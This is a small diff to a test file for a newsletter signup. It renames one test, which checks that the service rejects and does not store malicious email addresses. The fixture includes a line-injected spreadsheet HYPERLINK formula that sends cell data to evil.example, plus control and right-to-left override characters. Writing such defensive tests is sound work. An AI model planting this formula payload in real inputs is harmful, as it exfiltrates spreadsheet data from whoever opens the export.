@@ -24,7 +24,7 @@ describe('the newsletter', () => {
     expect(rows).toMatchObject([{ email: 'reader@example.com', isActive: true }]);
   });
 
-  it('refuses several lines with a spreadsheet formula in one address (review 22 M3), and stores nothing', async () => {
+  it('refuses several lines with a spreadsheet formula in one address, and stores nothing', async () => {
     const planted = 'kid@example.com\r\n=HYPERLINK("http://evil.example/?"&A1,"Click")@x\r\nplanted@evil.example';
     for (const email of [planted, 'a\u0007b@example.com', 'a\u202eb@example.com', 'x@y']) {
       const response = await subscribe(email, '203.0.113.9');
